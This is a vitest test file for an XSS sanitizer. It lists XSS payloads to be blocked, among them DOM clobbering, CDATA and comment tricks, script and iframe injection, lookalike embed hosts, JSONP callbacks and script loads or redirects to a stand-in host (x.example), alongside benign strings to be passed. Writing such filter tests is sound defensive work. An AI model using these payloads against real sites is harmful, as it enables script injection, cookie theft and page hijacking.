import { describe } from 'vitest';
import { blocks, passes } from '../../testing/payloads.ts';

describe('xss, contexts and clobbering', () => {
  // globals by index, elements that hide the document
  blocks('xss', [
    "frames[0]['alert'](1)",
    "new Function('ale','rt(1)')",
    "$.getScript('//x.example/a.js')",
    'Object.assign(window,{onerror:alert})',
    'with(String)eval(fromCharCode(97))',
    'new alert(1) when the cat',
    'return alert(1) when the cat',
    '<x alert(1) when the cat',
    '<form name=getElementById>',
    '<img name=currentScript>',
    '<input name=attributes form=x>',
    '<a id=defaultView>',
    '<%<script src=//x.example/a.js>',
    '<% <img src=x>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<![CDATA[ if (a < b) <img src=x>',
    '<![CDATA[<]]>script<![CDATA[>]]>',
    '<![CDATA[><b/onclick=x]]>',
    "x';{'use strict';document.cookie",
    "';document.location='//x.example'",
    '"use strict";x=\'\';document.title',
  ]);

  passes([
    'Its signature is `(prompt, answers)` where `prompt` is the current prompt',
    '* [confirm](#confirmmessage-initial) asks; `function` is optional',
    'a multi-line prompt (one with embedded newlines)',
    '<p>two slashes per JavaScript:</p>\n<ul><li><a href="https://example.org/">x</a></li></ul>',
    '<![CDATA[ if (a < b && b <c) go(); ]]>',
    '<![CDATA[for (i=0;i<n;i++) x <= y]]>',
    "{'use strict';document.getElementById('x').focus()}",
    '(function () { "use strict"; document.title = name; })()',
    '<h2 id="attributes"><a class="header" href="#attributes">Attributes</a></h2>',
    '<p>The element &lt;%s&gt; may not be there</p>\n<p><a href="/help">Help</a></p>',
    'Note the `--import` or `--require` flags; see [`fetch`]: Fetch.md',
    '[readme] add content [`be24868`](https://example.com/c)',
    'How can I use the alert() function in JavaScript?',
    'The <script> tag goes in the <head>',
    'Please alert("me") when the parcel arrives',
    'Fix XSS in <script> handling',
    '<p>Video:</p><iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allowfullscreen></iframe>',
    '<html><head><title>x</title><style>p {margin:0}</style></head><body>Hi</body></html>',
    'body { background: url(/a.png) } @import url("https://fonts.example.com/css?family=Open+Sans");',
    'for f in os.listdir("."):\n    print(f)',
    '<form id="search"><input name="q"></form>',
  ]);
});

describe('xss, frames', () => {
  blocks('xss', [
    '<iframe src=//x.example></iframe>',
    '<iframe src="https://x.example/a" width=1 height=1></iframe>',
    '<iframe src="https://x.example/a" width="100%" height="100%" style="position:fixed;top:0"></iframe>',
    '<iframe src="javascript:alert(1)" width="560" height="315"></iframe>',
    '</title><h1>x</h1>',
    '"></textarea><b>',
  ]);
});

describe('xss, what editors embed', () => {
  passes([
    '<blockquote class="twitter-tweet"><p lang="en">hi</p></blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
    '<script async src="//www.instagram.com/embed.js"></script>',
    '<script src="https://gist.github.com/anna/0123456789abcdef0123456789abcdef.js"></script>',
    '<iframe src="https://player.vimeo.com/video/1" allow="autoplay; fullscreen"></iframe>',
    '<html><head><title>x</title><script src="/assets/app.3f1a.js" defer></script></head><body>x</body></html>',
    'Add <script type="module" src="/src/main.js?v=1.2"></script> to the page',
  ]);

  blocks('xss', [
    '<script src="https://platform.twitter.com.x.example/widgets.js"></script>',
    '<script src="https://platform.twitter.com/widgets.js/../x.js"></script>',
    '<script src="https://platform.twitter.com/widgets.js" src=//x.example></script>',
    '<script src=//x.example src="https://platform.twitter.com/widgets.js"></script>',
    '<script src="https://www.youtube.com/oembed?callback=alert"></script>',
    '<script async onload="x()" src="https://platform.twitter.com/widgets.js"></script>',
    '<script data-x src="https://platform.twitter.com/widgets.js"></script>',
    '<script src="https://platform.twitter.com/widgets.js"></script><script>x()</script>',
    '<script src="https://platform.twitter.com/widgets.js"></script><img src=x onerror=x()>',
    '<script src="https://gist.github.com/anna/raw/x.js"></script>',
    '<script src="//x.example/app.js"></script>',
    '<script src="/\\\\x.example/app.js"></script>',
    '<script src="/uploads/x.js"></script>',
    '<script src="/wp-content/uploads/2024/x.js"></script>',
    '<script src="/a/../uploads/x.js"></script>',
    '<script src="/api/jsonp?callback=x"></script>',
    '<script src="/app.js?callback=x"></script>',
    '<script src="/app.js">x()</script><script>x()</script>',
    '<script src="/app.js" onload="x()"></script>',
    '<script src=app.js></script>',
    '<script src="/redirect/https://x.example/a.js"></script>',
    '<iframe src="https://player.vimeo.com/video/1" onload="x()"></iframe>',
    '<iframe src="https://player.vimeo.com/video/1" style="position:fixed;opacity:0"></iframe>',
    '<iframe src="https://player.vimeo.com.x.example/video/1"></iframe>',
    '<iframe src="https://player.vimeo.com/video/1" srcdoc="<script>x()</script>"></iframe>',
  ]);
});
